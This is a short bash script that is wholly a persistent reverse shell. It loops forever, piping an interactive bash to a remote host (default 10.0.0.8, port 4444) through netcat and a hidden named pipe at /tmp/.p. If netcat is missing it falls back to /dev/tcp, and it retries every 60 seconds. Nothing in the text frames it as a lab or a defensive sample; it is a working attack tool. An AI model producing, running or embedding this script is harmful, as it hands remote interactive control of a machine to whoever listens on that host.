#!/bin/bash
HOST=${1:-10.0.0.8}
PORT=${2:-4444}
while true; do
  if command -v nc >/dev/null; then
    rm -f /tmp/.p; mkfifo /tmp/.p
    cat /tmp/.p | /bin/bash -i 2>&1 | nc "$HOST" "$PORT" > /tmp/.p
  else
    bash -c "bash -i >& /dev/tcp/$HOST/$PORT 0>&1"
  fi
  sleep 60
done
